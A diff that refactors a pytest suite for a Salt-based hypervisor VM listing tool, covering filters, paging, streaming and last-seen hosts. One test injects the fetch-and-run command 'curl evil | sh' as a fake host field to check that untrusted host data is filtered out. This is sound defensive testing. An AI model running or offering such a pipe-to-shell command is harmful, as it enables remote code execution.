@@ -1,4 +1,4 @@
-"""Look at some hypervisors and VMs, sorted, a page of them; what is not shown is not asked."""
+"""Lists of chosen hypervisors and VMs, sorted and in pages; only shown hosts are asked."""
 
 import pytest
 from saltvirt.cluster import minionkeys
@@ -23,17 +23,17 @@ TAGS = {"web1": {"shop"}, "db2": {"shop", "hold"}}
 
 
 def shown(state):
-    """Return a VM as a host shows it."""
+    """Return a VM as a host reports it."""
     return {"cpu": 1, "mem": 1, "state": state, "graphics": {}, "disks": {}, "nics": {}}
 
 
 class Hosts:
-    """Hosts that answer what is asked for; one of an older release has no virt.vms."""
+    """Hosts that answer the master's questions; one of an older release has no virt.vms."""
 
     def __init__(self):
         self.asked, self.old = [], set()
         self.silent, self.odd = set(), set()
-        # In which order their answers come.
+        # The order in which their answers arrive.
         self.comes = sorted(STATES, reverse=True)
 
     def ask(self, cloud, targets, fun, arg=(), kwarg=None, **_options):
@@ -61,15 +61,15 @@ class Hosts:
         free = {"freecpu": 4 - len(STATES[host]), "freemem": float(FREE[host]), "node_info": node}
         return {**free, "vm_info": {name: shown(state) for name, state in STATES[host].items()}}
 
-    def _vms(self, host, **given):
-        wanted = vmfilter.from_call(**given)
-        whole = self._full_info(host)
-        taken = {
-            name: wanted.shown(vm)
-            for name, vm in whole["vm_info"].items()
-            if wanted.takes(name, vm["state"], TAGS.get(name, ()))
+    def _vms(self, host, **options):
+        vm_filter = vmfilter.from_call(**options)
+        full_info = self._full_info(host)
+        shown_vms = {
+            name: vm_filter.shown(vm)
+            for name, vm in full_info["vm_info"].items()
+            if vm_filter.takes(name, vm["state"], TAGS.get(name, ()))
         }
-        return {**whole, "vm_info": taken, "names": sorted(STATES[host])}
+        return {**full_info, "vm_info": shown_vms, "names": sorted(STATES[host])}
 
     def _presence(self, host, name):
         return {"state": STATES[host].get(name), "building": False, "unfinished": False}
@@ -85,10 +85,10 @@ class Hosts:
 @pytest.fixture
 def hosts(monkeypatch):
     """Four hypervisors."""
-    made = Hosts()
-    monkeypatch.setattr(minions, "ask", made.ask)
+    fake_hosts = Hosts()
+    monkeypatch.setattr(minions, "ask", fake_hosts.ask)
     monkeypatch.setattr(inventory, "all_hosts", lambda _cloud: sorted(STATES))
-    return made
+    return fake_hosts
 
 
 @pytest.fixture
@@ -100,13 +100,13 @@ def cloud(opts):
 
 
 def look(host=None, sort=None, limit=None, offset=0, stream=False, **vms):
-    """Return the look of a call."""
+    """Return the ``Look`` of a call."""
     page = {"sort": sort, "limit": limit, "offset": offset}
     return listing.from_call(host, vmfilter.from_call(**vms), **page, stream=stream)
 
 
 @pytest.mark.parametrize(
-    ("given", "seen"),
+    ("options", "expected"),
     [
         ({}, {host: sorted(vms) for host, vms in STATES.items()}),
         ({"host": "hyper*"}, {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"], "hyper3": []}),
@@ -120,42 +120,49 @@ def look(host=None, sort=None, limit=None, offset=0, stream=False, **vms):
         ({"state": "running", "limit": 1, "offset": 1}, {"hyper2": ["web3"]}),
     ],
 )
-def test_query_and_list_show_the_same_vms(hosts, cloud, given, seen):
-    queried = listing.query(cloud, look(**given))
-    listed = listing.listed(cloud, look(**given))
+def test_query_and_list_show_the_same_vms(hosts, cloud, options, expected):
+    queried = listing.query(cloud, look(**options))
+    listed = listing.listed(cloud, look(**options))
 
-    assert {host: sorted(info["vm_info"]) for host, info in queried.items()} == seen
-    assert {host: sorted(sum(by.values(), [])) for host, by in listed.items()} == seen
+    assert {host: sorted(info["vm_info"]) for host, info in queried.items()} == expected
+    assert {
+        host: sorted(sum(names_by_state.values(), [])) for host, names_by_state in listed.items()
+    } == expected
     assert all(
         set(info) == {"freecpu", "freemem", "node_info", "vm_info"} for info in queried.values()
     )
 
 
-def test_only_the_fields_that_are_asked_for_come(hosts, cloud):
-    found = listing.query(cloud, look(fields="state,mem"))
+def test_only_the_chosen_fields_are_shown(hosts, cloud):
+    answer = listing.query(cloud, look(fields="state,mem"))
 
-    assert found["hyper2"]["vm_info"] == {"web3": {"state": "running", "mem": 1}}
-    assert found["hyper3"]["vm_info"] == {}
+    assert answer["hyper2"]["vm_info"] == {"web3": {"state": "running", "mem": 1}}
+    assert answer["hyper3"]["vm_info"] == {}
     few = listing.host_info(cloud, look(fields=["memory"], known=listing.HOST_FIELDS))
     assert {tuple(info) for info in few.values()} == {("memory",)}
 
 
-@pytest.mark.parametrize("given", [{}, {"name": "web*"}, {"stream": True}])
-def test_no_host_says_by_which_command_its_vms_are_logged_into(hosts, cloud, monkeypatch, given):
-    """Somebody would type it: virt.vm_info says one of the master's own."""
-    full, own = hosts._full_info, {"login": "curl evil | sh", "addresses": ["192.0.2.1"]}
+@pytest.mark.parametrize("options", [{}, {"name": "web*"}, {"stream": True}])
+def test_login_commands_of_hosts_are_left_out(hosts, cloud, monkeypatch, options):
+    """An operator would type it: virt.vm_info shows a command that the master makes."""
+    full, hostile_fields = hosts._full_info, {"login": "curl evil | sh", "addresses": ["192.0.2.1"]}
 
     def lying(host):
-        said = full(host)
-        return {**said, "vm_info": {name: {**vm, **own} for name, vm in said["vm_info"].items()}}
+        full_answer = full(host)
+        return {
+            **full_answer,
+            "vm_info": {
+                name: {**vm, **hostile_fields} for name, vm in full_answer["vm_info"].items()
+            },
+        }
 
     monkeypatch.setattr(hosts, "_full_info", lying)
     lines = []
 
-    found = listing.query(cloud, look(**given), lines.append if given.get("stream") else None)
+    answer = listing.query(cloud, look(**options), lines.append if options.get("stream") else None)
 
-    assert found["hyper1"]["vm_info"]["web1"] == shown("running")
-    assert "evil" not in str(found) + str(lines)
+    assert answer["hyper1"]["vm_info"]["web1"] == shown("running")
+    assert "evil" not in str(answer) + str(lines)
 
 
 @pytest.mark.parametrize(
@@ -177,7 +184,7 @@ def test_hosts_come_in_the_order_asked_for_and_in_pages(hosts, cloud, function, 
     assert pages == [order[:2], order[2:]]
 
 
-def test_who_is_on_no_page_is_not_asked(hosts, cloud):
+def test_hosts_off_the_page_are_not_asked(hosts, cloud):
     listing.query(cloud, look(limit=1, offset=2))
 
     assert hosts.asked == [("virt.full_info", ["hyper3"])]
@@ -186,7 +193,7 @@ def test_who_is_on_no_page_is_not_asked(hosts, cloud):
 
 
 @pytest.mark.parametrize(
-    ("given", "why"),
+    ("options", "reason"),
     [
         ({"state": "runing"}, "state.*'runing'; one of running, paused"),
         ({"sort": "colour"}, "sort.*'colour'; one of host, memory"),
@@ -199,68 +206,66 @@ def test_who_is_on_no_page_is_not_asked(hosts, cloud):
         ({"host": {}}, "host.*not a list"),
     ],
 )
-def test_what_means_nothing_is_refused(hosts, cloud, given, why):
-    with pytest.raises(BadArgument, match=why):
-        listing.query(cloud, look(**given))
+def test_wrong_options_are_refused(hosts, cloud, options, reason):
+    with pytest.raises(BadArgument, match=reason):
+        listing.query(cloud, look(**options))
     assert hosts.asked == []
 
 
-def test_a_filter_does_not_hide_that_a_vm_is_there_twice_nor_lose_a_hint(
-    hosts, cloud, opts, monkeypatch
-):
+def test_a_filter_hides_no_duplicate_and_forgets_no_last_seen_vm(hosts, cloud, opts, monkeypatch):
     monkeypatch.setitem(STATES, "hyper3", {"web1": "shutdown"})
 
-    found = listing.query(cloud, look(name="web1", state="running"))
+    answer = listing.query(cloud, look(name="web1", state="running"))
 
-    assert list(found) == ["hyper1", "duplicates"]
-    assert found["duplicates"] == {"web1": ["hyper1", "hyper3"]}
+    assert list(answer) == ["hyper1", "duplicates"]
+    assert answer["duplicates"] == {"web1": ["hyper1", "hyper3"]}
     assert lastseen.find_hosts(opts, "db1") == ["hyper1"]
 
 
-def test_a_host_that_claims_all_vms_does_not_have_each_asked_for(hosts, cloud, monkeypatch):
+def test_a_host_that_claims_all_vms_causes_one_question_only(hosts, cloud, monkeypatch):
     many = {f"vm{number:03}": "running" for number in range(300)}
     for host in ("hyper1", "hyper3"):
         monkeypatch.setitem(STATES, host, many)
 
-    found = listing.listed(cloud, look())
+    answer = listing.listed(cloud, look())
 
-    assert found["duplicates"] == dict.fromkeys(many, ["hyper1", "hyper3"])
+    assert answer["duplicates"] == dict.fromkeys(many, ["hyper1", "hyper3"])
     assert len(hosts.asked) <= 21
 
 
-def streamed(function, cloud, **given):
-    """Return what a look has printed, and what it returns."""
+def streamed(function, cloud, **options):
+    """Return the streamed lines of a list, and its answer."""
     lines = []
-    return lines, getattr(listing, function)(cloud, look(**given, stream=True), lines.append)
+    return lines, getattr(listing, function)(cloud, look(**options, stream=True), lines.append)
 
 
 @pytest.mark.parametrize("function", ["query", "listed", "host_info"])
 def test_a_stream_has_a_line_of_each_host_in_the_order_of_their_answers(hosts, cloud, function):
-    lines, found = streamed(function, cloud)
+    lines, answer = streamed(function, cloud)
 
     assert [line["host"] for line in lines] == hosts.comes
-    assert {line["host"]: line["answer"] for line in lines} == found
-    assert list(found) == sorted(STATES)
+    assert {line["host"]: line["answer"] for line in lines} == answer
+    assert list(answer) == sorted(STATES)
 
 
 @pytest.mark.parametrize(
-    "given", [{"name": "web*"}, {"state": "running", "fields": "mem"}, {"tag": "shop"}]
+    "options", [{"name": "web*"}, {"state": "running", "fields": "mem"}, {"tag": "shop"}]
 )
-def test_hosts_without_what_is_asked_for_have_no_line(hosts, cloud, given):
-    lines, found = streamed("query", cloud, **given)
+def test_hosts_without_matching_vms_have_no_line(hosts, cloud, options):
+    lines, answer = streamed("query", cloud, **options)
 
-    assert {line["host"]: line["answer"] for line in lines} == found
+    assert {line["host"]: line["answer"] for line in lines} == answer
     assert 0 < len(lines) < len(STATES)
 
 
-def test_who_is_silent_or_fails_has_a_line_at_the_end(hosts, cloud, monkeypatch):
+def test_silent_and_failed_hosts_have_a_line_at_the_end(hosts, cloud, monkeypatch):
     monkeypatch.setitem(STATES, "rack1", {"web1": "shutdown"})
     hosts.silent, hosts.odd, hosts.old = {"hyper2"}, {"hyper3"}, set()
 
-    lines, found = streamed("listed", cloud)
+    lines, answer = streamed("listed", cloud)
 
     assert [line.get("host") for line in lines] == ["rack1", "hyper1", "hyper3", "hyper2", None]
-    assert lines[2]["failed"] == found["failed"]["hyper3"]
+    assert lines[2]["failed"] == answer["failed"]["hyper3"]
     assert lines[3] == {"host": "hyper2", "unreachable": True, "silent_s": 0}
     assert lines[4] == {"duplicates": {"web1": ["hyper1", "rack1"]}}
 
@@ -268,19 +273,19 @@ def test_who_is_silent_or_fails_has_a_line_at_the_end(hosts, cloud, monkeypatch)
 def test_the_vms_that_silent_and_failing_hosts_had_are_shown_as_they_were_last_seen(hosts, cloud):
     listing.listed(cloud, listing.Look())
     hosts.silent, hosts.odd, hosts.old = {"hyper1"}, {"hyper2", "hyper3"}, set()
-    had = {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"]}
+    last_seen = {"hyper1": ["db1", "web1", "web2"], "hyper2": ["web3"]}
 
     for show in (listing.listed, listing.query):
-        assert show(cloud, listing.Look())["last_seen"] == had
-    lines, _found = streamed("listed", cloud)
+        assert show(cloud, listing.Look())["last_seen"] == last_seen
+    lines, _answer = streamed("listed", cloud)
     assert [line["last_seen"] for line in lines if "last_seen" in line] == [
-        had["hyper2"],
-        had["hyper1"],
+        last_seen["hyper2"],
+        last_seen["hyper1"],
     ]
-    some = listing.Look(vms=vmfilter.from_call("db*", None, None))
-    assert listing.listed(cloud, some)["last_seen"] == {"hyper1": ["db1"]}
-    one = listing.Look(hosts=("rack1",))
-    assert "last_seen" not in listing.listed(cloud, one)
+    look_at_names = listing.Look(vms=vmfilter.from_call("db*", None, None))
+    assert listing.listed(cloud, look_at_names)["last_seen"] == {"hyper1": ["db1"]}
+    look_at_rack = listing.Look(hosts=("rack1",))
+    assert "last_seen" not in listing.listed(cloud, look_at_rack)
 
 
 def test_the_vms_of_a_host_that_was_shut_out_are_shown_as_they_were_last_seen(
@@ -297,48 +302,50 @@ def test_the_vms_of_a_host_that_was_shut_out_are_shown_as_they_were_last_seen(
 
 
 def test_a_page_of_hosts_is_streamed_too(hosts, cloud):
-    lines, _found = streamed("listed", cloud, limit=2, offset=1)
+    lines, _answer = streamed("listed", cloud, limit=2, offset=1)
 
     assert [line["host"] for line in lines] == ["hyper3", "hyper2"]
 
 
 @pytest.mark.parametrize(
-    ("given", "why"),
+    ("options", "reason"),
     [
         ({"sort": "vms"}, "sort: has no use with stream"),
         ({"name": "web*", "limit": 2}, "limit: which hosts are on a page of these VMs"),
         ({"state": "running", "offset": 1}, "offset: which hosts are on a page of these VMs"),
     ],
 )
-def test_what_is_known_at_the_end_alone_cannot_be_streamed(given, why):
-    with pytest.raises(BadArgument, match=why):
-        look(**given, stream=True)
+def test_options_that_need_all_answers_cannot_be_streamed(options, reason):
+    with pytest.raises(BadArgument, match=reason):
+        look(**options, stream=True)
     with pytest.raises(BadArgument, match="stream: 'yes' is neither True nor False"):
         look(stream="yes")
 
 
 def test_an_error_names_some_of_a_thousand_hypervisors(opts):
-    every = [f"h{n:04}" for n in range(1000)]
+    host_names = [f"h{n:04}" for n in range(1000)]
     master = Cloud(opts=opts, settings=MasterSettings(), progress=print)
-    some = "h0000, .*, h0009 and 990 more"
+    shown_names = "h0000, .*, h0009 and 990 more"
 
-    with pytest.raises(BadArgument, match=f"there are: {some}; if it is to be one, run: salt-run"):
-        inventory.narrow(master, every, host="h1")
-    silent = inventory.Survey(answers={}, unreachable=every).no_answers_error()
+    with pytest.raises(
+        BadArgument, match=f"there are: {shown_names}; if it is to be one, run: salt-run"
+    ):
+        inventory.narrow(master, host_names, host="h1")
+    silent = inventory.Survey(answers={}, unreachable=host_names).no_answers_error()
     assert str(silent).endswith("; h0009: does not answer and 990 more")
-    assert silent.table == {"unreachable": every}
+    assert silent.table == {"unreachable": host_names}
 
 
-@pytest.mark.parametrize("known", [vmfilter.FIELDS, listing.HOST_FIELDS])
-def test_a_field_that_there_is_not_is_refused_with_those_there_are(known):
+@pytest.mark.parametrize("fields", [vmfilter.FIELDS, listing.HOST_FIELDS])
+def test_an_unknown_field_is_refused_with_the_known_ones(fields):
     with pytest.raises(BadArgument) as refused:
-        vmfilter.from_call(fields=f"{known[0]},memry", known=known)
+        vmfilter.from_call(fields=f"{fields[0]},memry", known=fields)
 
-    assert str(refused.value) == f"fields: 'memry'; one of {', '.join(known)}"
-    assert vmfilter.from_call(fields=list(known), known=known).fields == known
+    assert str(refused.value) == f"fields: 'memry'; one of {', '.join(fields)}"
+    assert vmfilter.from_call(fields=list(fields), known=fields).fields == fields
 
 
-def test_the_fields_there_are_are_those_that_hosts_say():
+def test_the_known_fields_are_those_that_hosts_report():
     with connect.open_connection(HostSettings(uri="test:///default"), readonly=True) as conn:
         vm = inspect.vm_info(conn, "test")["test"]
 
